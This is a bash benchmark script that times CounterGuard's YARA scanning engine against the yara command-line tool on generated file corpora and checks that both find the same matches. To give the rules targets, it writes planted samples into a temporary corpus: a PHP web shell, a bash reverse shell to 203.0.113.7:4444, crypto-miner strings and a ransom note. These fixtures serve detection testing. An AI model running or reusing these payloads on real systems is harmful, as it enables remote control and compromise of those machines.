#!/bin/bash
# YARA scanning benchmark: CounterGuard's engine against the `yara` CLI, in the same run, on
# the same trees, with the same rules and thread counts (`cg-agent scan` settings), on two
# corpus shapes:
#   many small files  whole directories of this machine's /usr/share and /usr/lib (>=
#                     CG_BENCH_CORPUS_MB, default 600), planted samples and a clean 96 MiB file;
#   few large files   made by yara_corpus_gen (next to yara_bench_scan): 5 binaries of 16 to
#                     96 MiB among 607 small files, deterministic content, 3 planted matches.
# Then, on the first shape, the scheduled-scan settings (25 % CPU budget, lowest priority) for
# a first scan and a rescan of the unchanged tree with the incremental cache, and the same
# without a budget. Prints wall time, user and system CPU and peak RSS of every run, and the
# ratios to `yara` of throughput (wall) and of CPU time; exits 1 if the match sets differ.
# CounterGuard reports the SHA-256 of every matched file, which `yara` does not compute: each
# ratio is also given against `yara` plus `openssl dgst -sha256` of the files it matched (the
# same evidence), timed in the same alternation.
#
#   tests/bench/yara_bench.sh BUILD_DIR/tests/bench/yara_bench_scan
#
# Both scanners read from a warm page cache: the comparison is of scanning, which is CPU-bound.
# The machine may be shared: each configuration runs CG_BENCH_REPEAT times (default 3), yara
# and CounterGuard alternately, and the median of each figure counts; compare the CPU ratios
# when the load average is high (wall time then mostly measures waiting for a CPU).
# Needs: yara (Debian package, same version as libyara), GNU time (/usr/bin/time), tar, openssl.
# CG_BENCH_SHAPES (default "small large"), CG_BENCH_INCREMENTAL=0 skips the cache runs,
# CG_BENCH_KEEP=1 keeps the temporary directory; CG_BENCH_SCAN_ARGS adds options to every
# yara_bench_scan run (e.g. "--map-above 16777216" to try another mapping threshold).
set -euo pipefail
export LC_ALL=C

BENCH=${1:?usage: yara_bench.sh PATH/TO/yara_bench_scan}
HERE=$(cd "$(dirname "$0")" && pwd)
RULES=$HERE/rules/bench_rules.yar
TARGET_MB=${CG_BENCH_CORPUS_MB:-600}
REPEAT=${CG_BENCH_REPEAT:-3}
SHAPES=${CG_BENCH_SHAPES:-small large}
GEN=$(dirname "$BENCH")/yara_corpus_gen
TIME=/usr/bin/time

for tool in yara "$TIME" tar awk openssl xargs; do
  command -v "$tool" >/dev/null || { echo "yara_bench: $tool is required" >&2; exit 2; }
done
[ -x "$BENCH" ] || { echo "yara_bench: $BENCH is not executable" >&2; exit 2; }
[ -x "$GEN" ] || { echo "yara_bench: $GEN is not built" >&2; exit 2; }

WORK=$(mktemp -d /tmp/cg-yara-bench.XXXXXX)
cleanup() { [ "${CG_BENCH_KEEP:-0}" = 1 ] || rm -rf "$WORK"; }
trap cleanup EXIT

# ---- corpora -----------------------------------------------------------------------------
# make_small DIR: whole directories (every regular file below 32 MiB directly in them) of
# /usr/share and /usr/lib, taken in a fixed pseudo-random order until the target size: text
# and binaries mix, and the tree keeps the shape of a real disk (6 to 16 files per directory
# here; sampling single files would make nearly every file a directory of its own).
make_small() {
  local corpus=$1
  mkdir -p "$corpus/planted"
  echo "building a ${TARGET_MB} MB corpus of small files in $corpus ..." >&2
  find /usr/share /usr/lib -xdev -type f -size -32M -readable -printf '%h\t%s\t%p\n' 2>/dev/null |
    awk -F'\t' 'BEGIN { srand(20261126) }
      NF == 3 { if (!($1 in key)) key[$1] = rand(); print key[$1] "\t" $0 }' |
    sort -t$'\t' -k1,1 -k2,2 |
    awk -F'\t' -v target=$((TARGET_MB * 1024 * 1024)) '
      $2 != dir { if (total >= target) done = 1; dir = $2 }
      !done { total += $3; print $4 }' >"$WORK/files.txt"
  tar -cf - --verbatim-files-from -T "$WORK/files.txt" 2>/dev/null | tar -xf - -C "$corpus"
  # Planted samples for a few of the rules (and one large file, mapped rather than read).
  printf '{"pools":[{"url":"pool.example.org:3333","algo":"rx/0"}], "cpu":{"max-threads-hint":50}}\n' \
    >"$corpus/planted/config.json"
  printf '<?php @eval($_POST["cmd"]); ?>\n' >"$corpus/planted/shell.php"
  printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' >"$corpus/planted/rev.sh"
  printf 'Tat ca du lieu cua ban da bi ma hoa. bitcoin address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n' \
    >"$corpus/planted/README_RESTORE.txt"
  printf 'junk CG-BENCH-PLANTED-SAMPLE junk\n' >"$corpus/planted/sample.bin"
  printf 'stratum+tcp://pool.example.org:3333 --donate-level 1 xmrig\n' >"$corpus/planted/miner.sh"
  # Clean, like most large files on a counter PC: matched files are read again by every scan,
  # clean ones only when they change.
  head -c $((96 * 1024 * 1024)) /dev/urandom >"$corpus/planted/large.bin"
}

# make_large DIR: 5 binaries of 16-96 MiB among 607 small files (yara_corpus_gen).
make_large() {
  echo "generating the corpus of few large files in $1 ..." >&2
  "$GEN" --dir "$1" >/dev/null
}

# ---- measuring ---------------------------------------------------------------------------
# once NAME CMD...: one run of CMD under GNU time; appends "wall user sys maxrss_kb" to
# $WORK/NAME.runs and keeps its stdout in $WORK/NAME.out.
once() {
  local name=$1
  shift
  "$TIME" -f '%e %U %S %M' -o "$WORK/$name.t" "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" || true
  tail -n 1 "$WORK/$name.t" >>"$WORK/$name.runs"
}
# The median of column $2 of NAME's runs (1 wall, 2 user, 3 sys, 4 maxrss, 5 user+sys).
med() {
  awk -v c="$2" '{ print (c == 5) ? $2 + $3 : $c }' "$WORK/$1.runs" | sort -g |
    awk '{ v[NR] = $1 } END { print (NR % 2) ? v[(NR + 1) / 2] : (v[NR / 2] + v[NR / 2 + 1]) / 2 }'
}
wall() { med "$1" 1; }
cpu() { med "$1" 5; }
usr() { med "$1" 2; }
sys() { med "$1" 3; }
rss_mb() { awk -v k="$(med "$1" 4)" 'BEGIN { printf "%.0f", k / 1024 }'; }
mbps() { awk -v b="$2" -v w="$(wall "$1")" 'BEGIN { printf "%.0f", b / 1048576 / w }'; }
ratio() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", a / b }'; }

RESULTS=$WORK/results.txt
FAILED=0
for shape in $SHAPES; do
  corpus=$WORK/corpus-$shape
  case $shape in
    small) make_small "$corpus" ;;
    large) make_large "$corpus" ;;
    *) echo "yara_bench: unknown shape $shape" >&2; exit 2 ;;
  esac
  files=$(find "$corpus" -type f | wc -l)
  dirs=$(find "$corpus" -type d | wc -l)
  bytes=$(find "$corpus" -type f -printf '%s\n' | awk '{ s += $1 } END { print s }')
  big=$(find "$corpus" -type f -size +16M | wc -l)
  if [ "$shape" = small ] && [ "$bytes" -lt $((TARGET_MB * 1024 * 1024)) ]; then
    echo "yara_bench: the corpus has $bytes bytes, less than the $TARGET_MB MB asked for" >&2
    exit 2
  fi
  echo "corpus $shape: $bytes bytes in $files files; warming the page cache ..." >&2
  tar -cf - -C "$corpus" . | cat >/dev/null
  echo "scanning $shape ($REPEAT runs each, alternately) ..." >&2
  for n in 1 2; do
    for _ in $(seq "$REPEAT"); do
      once "${shape}_yara_p$n" yara -r -N -w -p "$n" "$RULES" "$corpus"
      # What yara leaves out of the evidence CounterGuard reports: the SHA-256 of each matched
      # file, as an analyst would add it (OpenSSL, which uses the CPU's SHA instructions).
      cut -d' ' -f2- "$WORK/${shape}_yara_p$n.out" | sort -u >"$WORK/${shape}_matched.txt"
      once "${shape}_sha" xargs -d '\n' -a "$WORK/${shape}_matched.txt" openssl dgst -sha256
      # shellcheck disable=SC2086 # CG_BENCH_SCAN_ARGS is a list of options
      once "${shape}_cg_t$n" "$BENCH" --rules "$RULES" --path "$corpus" --threads "$n" \
        --hits "$WORK/${shape}_cg_t$n.hits" ${CG_BENCH_SCAN_ARGS:-}
    done
    sort "$WORK/${shape}_yara_p$n.out" >"$WORK/${shape}_yara_p$n.hits"
    if ! cmp -s "$WORK/${shape}_yara_p$n.hits" "$WORK/${shape}_cg_t$n.hits"; then
      echo "DIFFERENT MATCHES on $shape at $n threads:" >>"$RESULTS.diff"
      diff "$WORK/${shape}_yara_p$n.hits" "$WORK/${shape}_cg_t$n.hits" | head -20 >>"$RESULTS.diff"
      FAILED=1
    fi
  done
  {
    echo
    echo "$shape: $(awk -v b="$bytes" 'BEGIN { printf "%.1f", b / 1048576 }') MB, $files files in $dirs directories ($big above 16 MiB); $(wc -l <"$WORK/${shape}_yara_p2.hits") (rule, file) matches"
    printf '%-26s %7s %6s %7s %7s %7s %8s  %s\n' "run (median of $REPEAT)" "wall s" "MB/s" "user s" "sys s" "CPU s" "peak RSS" "CounterGuard / yara"
    for n in 1 2; do
      y=${shape}_yara_p$n
      c=${shape}_cg_t$n
      printf '%-26s %7s %6s %7s %7s %7s %5s MB\n' "yara -r -N -p $n" "$(wall $y)" "$(mbps $y "$bytes")" "$(usr $y)" "$(sys $y)" "$(cpu $y)" "$(rss_mb $y)"
      printf '%-26s %7s %6s %7s %7s %7s %5s MB  %sx throughput, %sx CPU efficiency\n' "CounterGuard, $n thread(s)" "$(wall $c)" "$(mbps $c "$bytes")" "$(usr $c)" "$(sys $c)" "$(cpu $c)" "$(rss_mb $c)" \
        "$(ratio "$(wall $y)" "$(wall $c)")" "$(ratio "$(cpu $y)" "$(cpu $c)")"
      # yara with the same evidence: its run plus the hashing of the files it matched.
      ew=$(awk -v a="$(wall $y)" -v b="$(wall "${shape}_sha")" 'BEGIN { printf "%.2f", a + b }')
      ec=$(awk -v a="$(cpu $y)" -v b="$(cpu "${shape}_sha")" 'BEGIN { printf "%.2f", a + b }')
      printf '%-26s %7s %6s %7s %7s %7s %8s  %sx throughput, %sx CPU efficiency (same evidence)\n' "  yara -p $n + SHA-256" "$ew" "" "" "" "$ec" "" \
        "$(ratio "$ew" "$(wall $c)")" "$(ratio "$ec" "$(cpu $c)")"
    done
    echo "SHA-256 of yara's $(wc -l <"$WORK/${shape}_matched.txt") matched files ($(xargs -d '\n' -a "$WORK/${shape}_matched.txt" du -cb | tail -n 1 | cut -f1) bytes; openssl dgst, median of $((2 * REPEAT))): $(wall "${shape}_sha") s wall, $(cpu "${shape}_sha") s CPU"
  } >>"$RESULTS"
  if [ "$shape" = small ]; then
    SMALL=$corpus
    SMALL_BYTES=$bytes
  fi
done

# Incremental, as scheduled scans use it (the only scans that keep a cache): 25 % of one core,
# lowest priority, two workers. The first scan fills the cache (and shows the budget holding),
# the second finds the tree unchanged. Under the budget wall time follows CPU time.
if [ -n "${SMALL:-}" ] && [ "${CG_BENCH_INCREMENTAL:-1}" = 1 ]; then
  echo "scheduled-scan settings on the small-file corpus ..." >&2
  once cg_budget "$BENCH" --rules "$RULES" --path "$SMALL" --threads 2 --cpu-budget 25 \
    --low-priority --cache "$WORK/sched.sqlite" --compiled "$WORK/compiled"
  once cg_budget_rescan "$BENCH" --rules "$RULES" --path "$SMALL" --threads 2 --cpu-budget 25 \
    --low-priority --cache "$WORK/sched.sqlite" --compiled "$WORK/compiled"
  BUDGET_PCT=$(awk -v c="$(cpu cg_budget)" -v w="$(wall cg_budget)" 'BEGIN { printf "%.1f", 100 * c / w }')
  # The same without a budget, on both cores, for comparison.
  once cg_first "$BENCH" --rules "$RULES" --path "$SMALL" --threads 2 \
    --cache "$WORK/files.sqlite" --compiled "$WORK/compiled"
  for _ in $(seq "$REPEAT"); do
    once cg_rescan "$BENCH" --rules "$RULES" --path "$SMALL" --threads 2 \
      --cache "$WORK/files.sqlite" --compiled "$WORK/compiled"
  done
  UNCHANGED=$(sed -n 's/.*"files_unchanged":\([0-9]*\).*/\1/p' "$WORK/cg_rescan.out")
  row() { printf '%-40s %7s %6s %7s %5s MB  %s\n' "$1" "$(wall "$2")" "$(mbps "$2" "$SMALL_BYTES")" "$(cpu "$2")" "$(rss_mb "$2")" "${3:-}"; }
  {
    echo
    echo "scheduled-scan settings, small-file corpus"
    printf '%-40s %7s %6s %7s %8s  %s\n' "run" "wall s" "MB/s" "CPU s" "peak RSS" ""
    row "CounterGuard, 25% budget, low priority" cg_budget "CPU $BUDGET_PCT% of one core (goal <= 30%)"
    row "  same, rescan of the unchanged tree" cg_budget_rescan \
      "$(ratio "$(wall cg_budget)" "$(wall cg_budget_rescan)")x faster than first (goal >= 20x)"
    row "CounterGuard, no budget, first scan" cg_first
    row "  same, rescan of the unchanged tree" cg_rescan \
      "$(ratio "$(wall cg_first)" "$(wall cg_rescan)")x faster; $UNCHANGED files unchanged"
  } >>"$RESULTS"
fi

# ---- report ------------------------------------------------------------------------------
echo
echo "YARA scanning benchmark, $(date -u +%Y-%m-%dT%H:%M:%SZ), $(nproc) CPUs, load average $(cut -d' ' -f1-3 /proc/loadavg)"
echo "rules: $(grep -c '^rule ' "$RULES") ($RULES); yara $(yara --version); scan options: ${CG_BENCH_SCAN_ARGS:-(defaults)}"
echo "throughput: yara wall / CounterGuard wall; CPU efficiency: yara CPU / CounterGuard CPU (goal >= 1.0 for both)"
cat "$RESULTS"
if [ "$FAILED" = 1 ]; then
  echo
  cat "$RESULTS.diff"
  exit 1
fi
echo
echo "same (rule, file) matches as yara on every shape and thread count"
